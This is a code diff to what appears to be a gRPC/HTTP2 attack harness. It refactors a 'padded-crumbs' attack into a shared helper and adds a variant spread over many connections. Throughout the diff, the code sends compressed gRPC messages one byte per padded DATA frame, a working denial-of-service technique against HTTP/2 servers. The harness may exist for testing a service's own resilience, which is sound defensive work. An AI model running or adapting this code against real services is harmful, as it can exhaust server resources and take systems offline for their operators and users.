@@ -174,23 +174,41 @@ def gzip_empty(t: Target) -> None:
     packed(t, [stored, member * (4 * MIB // len(member))], "gzip", 8)
 
 
+def crumbs(t: Target, connections: int, streams: int, most: int) -> None:
+    """Packed messages that come a byte a frame, each behind padding; `most` frames on a connection."""
+    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"], ("grpc-encoding", "gzip"))
+    template, prefix = wire.Template(fields), wire.message(b"", flag=1, length=8 * MIB)
+    head = template.streams(lambda stream: wire.frame(wire.DATA, 0, stream, prefix), 0, 1, streams)
+    padded, crumb = 0x8, bytes([255, 0x1F]) + bytes(255)
+    batch = b"".join(wire.frame(wire.DATA, padded, stream, crumb) for stream in range(1, 2 * streams, 2))
+    turns = max(1, 2000 // streams)
+    live = {connection: 0 for connection in t.connects(connections)}
+    for connection in live:
+        connection.write(head)
+    while t.left > 2 and live:
+        sent = False
+        for connection, frames_ in list(live.items()):
+            if connection.closed or connection.goaway is not None or frames_ >= most:
+                del live[connection]
+            elif connection.room >= turns * streams * len(crumb):
+                connection.write(batch * turns)
+                connection.room -= turns * streams * len(crumb)
+                live[connection] += turns * streams
+                t.sent(turns * streams, turns * len(batch))
+                sent = True
+            else:
+                connection.take()
+        if not sent:
+            wire.pump(live, 0.01, first=True)
+    t.notes["MiB sent"] = t.bytes >> 20
+    t.hold()
+
+
 @attack("padded-crumbs", "100 packed messages that come a byte a frame, each behind 255 bytes of padding", caller=True, seconds=12)
 def padded_crumbs(t: Target) -> None:
-    fields = wire.call(f"{payloads.VISION}Detect", t.tokens["evil"], ("grpc-encoding", "gzip"))
-    template, connection, count = wire.Template(fields), t.connect(), 100
-    prefix = wire.message(b"", flag=1, length=8 * MIB)
-    connection.write(template.streams(lambda stream: wire.frame(wire.DATA, 0, stream, prefix), 0, 1, count))
-    padded = 0x8
-    crumb = bytes([255, 0x1F]) + bytes(255)
-    batch = b"".join(wire.frame(wire.DATA, padded, stream, crumb) for stream in range(1, 2 * count, 2)) * 20
-    size, total = 20 * count * len(crumb), 0
-    while total < t.many(2 << 30) and t.left > 2 and not connection.closed and connection.goaway is None:
-        if connection.room < size:
-            wire.pump([connection], 0.005)
-            continue
-        connection.write(batch)
-        connection.room -= size
-        total += size
-        t.sent(20 * count, len(batch))
-    t.notes["MiB sent"] = total >> 20
-    t.hold()
+    crumbs(t, 1, 100, t.many(8_000_000))
+
+
+@attack("padded-crumbs-spread", "the same on 300 connections, 18,000 frames on each", caller=True, seconds=15)
+def padded_crumbs_spread(t: Target) -> None:
+    crumbs(t, t.many(300), 10, 18_000)
